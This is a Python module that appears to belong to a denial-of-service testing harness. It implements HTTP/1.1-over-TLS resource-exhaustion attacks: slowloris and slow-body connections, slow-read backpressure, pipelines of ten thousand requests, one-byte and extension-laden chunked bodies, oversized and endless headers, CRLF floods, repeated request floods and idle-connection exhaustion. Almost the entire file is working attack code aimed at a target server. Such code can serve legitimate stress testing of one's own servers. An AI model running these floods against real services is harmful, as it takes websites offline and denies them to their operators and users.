"""Floods of HTTP/1.1, over TLS."""

import select
import socket
import time

from wire import PIECE, Tally, again_and_again, drain, is_over, pump, reset


# The origin repeats it as its answer: the longer the id, the cheaper a large one.
_LARGE = "X-Id: attack-0123456789abcdef0123456789\r\n"


def _head(target, line="GET / HTTP/1.1", more=""):
    return ("%s\r\nHost: %s\r\n%s\r\n" % (line, target.host, more)).encode()


def _crowd(target, seconds, count, begin, drip, period=0.1, receive_buffer=None, listen=True):
    """
    So many connections, each with its beginning sent, and then a few bytes to all of them now and
    again until the time is over. What they are answered is kept in the notes, by status.
    """
    tally, end = Tally(), time.monotonic() + seconds
    held = {}
    for _ in range(count):
        try:
            sock = target.open("http/1.1", receive_buffer)
        except OSError:
            tally.cut += 1
            continue
        tally.connections += 1
        tally.bytes += pump(sock, begin, 1.0, listen=False)[0]
        held[sock] = time.monotonic()
        if time.monotonic() > end:
            break
    while held and time.monotonic() < end:
        for sock, began in list(held.items()):
            heard, stands = drain(sock) if listen else (b"", not is_over(sock))
            if heard.startswith(b"HTTP/1.1 "):
                status = heard[9:12].decode("latin-1")
                tally.notes[status] = tally.notes.get(status, 0) + 1
            if stands and drip:
                sent, _, stands = pump(sock, drip, 0.01, listen=False)
                tally.bytes += sent
            if not stands:
                tally.ended(began, False)
                del held[sock]
                reset(sock)
        time.sleep(period)
    tally.notes["held"] = len(held)
    for sock in held:
        reset(sock)
    return tally


def slowloris(target, seconds, count=300):
    """Heads that never end."""
    return _crowd(target, seconds, count, _head(target)[:-2] + b"X-A: ", b"b")


def slow_body(target, seconds, count=200):
    """Bodies that come by the byte."""
    return _crowd(target, seconds, count,
                  _head(target, "POST / HTTP/1.1", "Content-Length: 1000000\r\n") + b"x" * 300, b"y")


def slow_read(target, seconds, count=20):
    """Large answers that nobody takes from the socket."""
    return _crowd(target, seconds, count, _head(target, "GET /?bytes=3000000 HTTP/1.1", _LARGE), b"",
                  receive_buffer=4096, listen=False)


def pipeline(target, seconds):
    """Ten thousand requests in one write."""
    one = _head(target)
    return again_and_again(target, one * 10000, seconds, len(one), "http/1.1")


def chunks_of_one_byte(target, seconds):
    begin = _head(target, "POST / HTTP/1.1", "Transfer-Encoding: chunked\r\n")
    return again_and_again(target, b"1\r\nx\r\n" * 200000, seconds, 6, "http/1.1", begin=begin)


def chunk_extensions(target, seconds):
    """A byte, and 200 bytes about it."""
    begin = _head(target, "POST / HTTP/1.1", "Transfer-Encoding: chunked\r\n")
    one = b"1;" + b"e=f;" * 50 + b"\r\nx\r\n"
    return again_and_again(target, one * 20000, seconds, len(one), "http/1.1", begin=begin)


def header_flood(target, seconds):
    """Heads as large as they may be, all in a pipeline."""
    one = _head(target, more="".join("X-%d: %s\r\n" % (i, "v" * 250) for i in range(90)))
    return again_and_again(target, one * 200, seconds, len(one), "http/1.1")


def header_too_large(target, seconds):
    """Heads without end."""
    begin = _head(target)[:-2]
    one = b"X-Header: " + b"v" * 80 + b"\r\n"
    return again_and_again(target, one * 20000, seconds, len(one), "http/1.1", begin=begin)


def empty_lines(target, seconds):
    """CRLF in front of a request that never comes."""
    return again_and_again(target, b"\r\n" * 500000, seconds, 2, "http/1.1")


def requests(line="GET / HTTP/1.1", more="", in_flight=1, connections=4):
    """
    The same request over and over on a few connections, each answer taken as it comes, so many
    under way on each.
    """

    def attack(target, seconds):
        one = _head(target, line, more + _LARGE)
        tally, end = Tally(), time.monotonic() + seconds
        waiting = {}
        while time.monotonic() < end:
            while len(waiting) < connections:
                sock = target.open("http/1.1")
                tally.connections += 1
                pump(sock, one * in_flight, 0.5, listen=False)
                waiting[sock] = b""
            ready, _, _ = select.select(list(waiting), [], [], 0.05)
            for sock in ready:
                heard, stands = drain(sock)
                tail = waiting[sock][-8:] + heard
                answers = tail.count(b"HTTP/1.1 ") - waiting[sock][-8:].count(b"HTTP/1.1 ")
                for code in (b"200", b"401", b"503", b"404"):
                    found = heard.count(b"HTTP/1.1 " + code)
                    key = code.decode()
                    tally.notes[key] = tally.notes.get(key, 0) + found
                tally.units += answers
                waiting[sock] = tail
                if answers and stands:
                    sent, _, stands = pump(sock, one * answers, 0.5, listen=False)
                    tally.bytes += sent
                if not stands:
                    del waiting[sock]
                    reset(sock)
        for sock in waiting:
            reset(sock)
        return tally

    return attack


def connections(count, source=None):
    """Connections without a word, as many as there may be."""

    def attack(target, seconds):
        tally, end, held = Tally(), time.monotonic() + seconds, []
        for _ in range(count):
            sock = socket.socket()
            sock.setblocking(False)
            if source is not None:
                sock.bind((source, 0))
            try:
                sock.connect(target.https)
            except BlockingIOError:
                pass
            except OSError:
                sock.close()
                continue
            held.append(sock)
            tally.connections += 1
        while time.monotonic() < end:
            time.sleep(0.02)
        for sock in held:
            try:
                if sock.recv(PIECE) == b"":
                    tally.cut += 1
            except BlockingIOError:
                pass
            except OSError:
                tally.cut += 1
            reset(sock)
        return tally

    return attack
